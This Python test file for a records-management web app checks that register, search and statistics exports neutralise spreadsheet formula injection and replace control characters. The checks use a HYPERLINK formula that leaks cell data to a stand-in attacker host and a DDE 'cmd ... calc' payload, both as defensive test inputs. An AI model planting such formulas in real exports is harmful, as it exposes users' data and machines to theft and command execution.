"""Exports a person opens in a spreadsheet run no formula that someone else typed (OWASP "CSV
injection"): a trích yếu received or registered as ``=HYPERLINK(…)``, or a unit named
``@SUM(…)``, is text in the register and search XLSX and in the access statistics CSV."""

from __future__ import annotations

import csv
import io
import json

from flask import Flask
from flask.testing import FlaskClient
from kho_people import UNIT_B, People
from kho_testing import incoming
from kho_web import login
from openpyxl import load_workbook

from web.context import Kho

FORMULA = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Xem chi tiết")'


def _cells(xlsx: bytes) -> list[tuple[object, str]]:
    sheet = load_workbook(io.BytesIO(xlsx)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    return [(cell.value, cell.data_type) for cell in cells if cell.value is not None]


def test_a_trich_yeu_that_looks_like_a_formula_is_text_in_the_xlsx_exports(
    app: Flask, client: FlaskClient, people: People
) -> None:
    made = client.post(
        "/api/records",
        data={"direction": "den", "metadata": json.dumps(incoming(subject=FORMULA, organ_name=FORMULA))},
        headers=people.headers("van_thu"),
    )
    assert made.status_code == 201, made.json
    assert made.json["metadata"]["subject"] == FORMULA  # stored exactly as received
    assert made.json["metadata"]["organ_name"] == FORMULA

    web = app.test_client()
    assert login(web, people, "van_thu").status_code == 302
    register = web.get("/registers/export.xlsx?series=den&year=2026")
    assert register.status_code == 200
    search = client.get("/api/search/export?format=xlsx&q=", headers=people.headers("van_thu"))
    assert search.status_code == 200, search.get_data(as_text=True)
    for exported in (register.data, search.data):
        cells = _cells(exported)
        assert (FORMULA, "s") in cells  # the text, exactly, as a string cell (tác giả, trích yếu)
        assert not [value for value, kind in cells if kind == "f"]  # no formula anywhere


def test_a_unit_name_that_looks_like_a_formula_is_text_in_the_statistics_csv(
    app: Flask, kho: Kho, people: People
) -> None:
    admin = kho.accounts.get(people.usernames["quan_tri"])
    kho.accounts.update_unit(UNIT_B, name="@SUM(1+1)*cmd|' /C calc'!A0", actor=admin)
    staff = app.test_client()
    assert login(staff, people, "chuyen_vien_b").status_code == 302
    assert staff.get("/search?q=quy+che").status_code == 200  # one audited access by unit B

    auditor = app.test_client()
    assert login(auditor, people, "kiem_toan").status_code == 302
    exported = auditor.get("/audit/stats.csv?since=01/01/2020&until=31/12/2099")
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells  # shown as text by a spreadsheet
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]


def test_a_character_xml_cannot_carry_is_shown_not_a_500_in_the_xlsx_and_docx_exports(
    app: Flask, client: FlaskClient, people: People
) -> None:
    """XLSX and DOCX are XML, which cannot carry most control characters: openpyxl and lxml
    raised on one, so ``/api/search/export?format=xlsx&q=%0B`` (the query is printed in the
    file) and the same page link answered 500 with a traceback, and so would every XLSX export
    of a text stored before such characters were refused. Each is now written as U+FFFD."""
    from docx import Document

    from kho.sheets import Sheet, to_xlsx

    h = people.headers("van_thu")
    web = app.test_client()
    assert login(web, people, "van_thu").status_code == 302
    for query in ("quy\x0bchế", "a\x00b", "\x01\x1f"):
        shown = query.translate({0x0B: "\ufffd", 0x00: "\ufffd", 0x01: "\ufffd", 0x1F: "\ufffd"})
        for fmt in ("xlsx", "docx"):
            for answer in (
                client.get("/api/search/export", query_string={"format": fmt, "q": query}, headers=h),
                web.get(f"/search/export.{fmt}", query_string={"q": query}),
            ):
                assert answer.status_code == 200, (fmt, repr(query), answer.get_data(as_text=True)[:200])
                if fmt == "xlsx":
                    texts = [str(value) for value, _kind in _cells(answer.data)]
                else:
                    texts = [p.text for p in Document(io.BytesIO(answer.data)).paragraphs]
                assert f"Từ khóa: {shown}" in texts, (fmt, texts[:4])
    stored = Sheet("Sổ", ("Sổ đăng ký",), ("Trích yếu",), (("Về việc\x0b\x08 cũ",),))
    assert ("Về việc\ufffd\ufffd cũ", "s") in _cells(to_xlsx(stored))  # a text stored long ago
